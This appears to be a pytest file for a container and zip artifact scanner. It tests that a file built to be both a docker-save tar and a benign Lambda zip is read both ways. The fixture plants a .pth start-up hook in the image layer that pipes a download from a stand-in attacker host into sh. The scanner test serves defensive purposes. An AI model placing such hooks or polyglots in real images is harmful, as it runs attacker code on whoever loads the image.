"""Issue 11, item 4: a file that parses as a tar and as a zip is read both ways.

``docker load``/containerd read the tar; a zip reader (AWS Lambda's, CPython's zipfile)
reads the zip.  wellcheck reports both; a zip that is exactly a wheel the image
carries (and already opens as a nested archive) is not read twice.
"""

from __future__ import annotations

import tarfile
import zipfile
from pathlib import Path

from imagebuilder import build_docker_archive, write_tar
from imagebuilder import dist_info as image_dist
from zipkit import dist_info, zip_bytes

from wellcheck.artifact import open_artifact
from wellcheck.pipeline import inventory_artifact

SITE = "usr/local/lib/python3.12/site-packages"
HOOK = b"import os; os.system('curl https://evil.example | sh')\n"
ZIP_VIEW = "[read as a zip]"


def lambda_zip() -> bytes:
    return zip_bytes({"app.py": b"def handler(e, c):\n    return 1\n", **dist_info("idna", "3.6")})


def polyglot(tmp_path: Path) -> Path:
    """A docker-save tar whose first member's name begins with a zip signature and whose
    last member's data is a benign function zip: a zip reader sees only that zip, docker
    sees the image and its start-up hook."""
    layer = {**image_dist("requests", "2.25.1", SITE), f"{SITE}/zz_evil.pth": HOOK}
    image = build_docker_archive(tmp_path / "plain.tar", [layer])
    with tarfile.open(image) as archive:
        members = [(m.name, archive.extractfile(m).read()) for m in archive]  # type: ignore[union-attr]
    first = ("PK\x03\x04" + "\x14" * 20, b"")
    return write_tar(tmp_path / "polyglot.tar", [first, *members, ("z.zip", lambda_zip())])


def test_a_tar_that_is_also_a_zip_is_read_both_ways(tmp_path: Path) -> None:
    path = polyglot(tmp_path)
    assert path.read_bytes().startswith(b"PK\x03\x04") and zipfile.is_zipfile(path)
    with open_artifact(str(path)) as opened:
        assert opened.info.kind == "docker-archive"
        assert [tree.chain for tree in opened.trees] == [(), (ZIP_VIEW,)]
        assert opened.trees[0].read_bytes(f"{SITE}/zz_evil.pth") == HOOK
        assert "app.py" in opened.trees[1].entries()
        assert any("also a zip archive" in warning for warning in opened.info.warnings)
    found = {(c.name, c.chain) for c in inventory_artifact(str(path)).components}
    assert {("requests", ()), ("idna", (ZIP_VIEW,))} <= found


def test_an_image_ending_with_a_wheel_it_carries_is_read_once(tmp_path: Path) -> None:
    """A legitimate image whose last layer ends with a wheel: CPython's is_zipfile says
    the whole file is a zip, and that zip is the wheel the image holds."""
    wheel = zip_bytes(dist_info("attrs", "23.2.0", installer=False))
    layer = [*image_dist("six", "1.16.0", SITE).items(), ("var/task/attrs.whl", wheel)]
    path = build_docker_archive(tmp_path / "image.tar", [layer])  # type: ignore[list-item]
    assert zipfile.is_zipfile(path)  # the wheel is within the last 64 KiB of the file
    with open_artifact(str(path)) as opened:
        assert [tree.chain for tree in opened.trees] == [(), ("var/task/attrs.whl",)]
        assert not any("also a zip" in warning for warning in opened.info.warnings)


def test_a_zip_in_an_image_file_that_is_no_archive_name_is_read_as_a_zip_too(
    tmp_path: Path,
) -> None:
    layer = [*image_dist("six", "1.16.0", SITE).items(), ("var/task/data.bin", lambda_zip())]
    path = build_docker_archive(tmp_path / "image.tar", [layer])  # type: ignore[list-item]
    with open_artifact(str(path)) as opened:
        assert [tree.chain for tree in opened.trees] == [(), (ZIP_VIEW,)]


def test_a_plain_zip_and_a_plain_image_are_read_one_way(tmp_path: Path) -> None:
    (tmp_path / "f.zip").write_bytes(lambda_zip())
    with open_artifact(str(tmp_path / "f.zip")) as opened:
        assert opened.info.kind == "lambda-zip" and len(opened.trees) == 1
    image = build_docker_archive(tmp_path / "i.tar", [image_dist("six", "1.16.0", SITE)], "gzip")
    with open_artifact(str(image)) as opened:
        assert [tree.chain for tree in opened.trees] == [()]
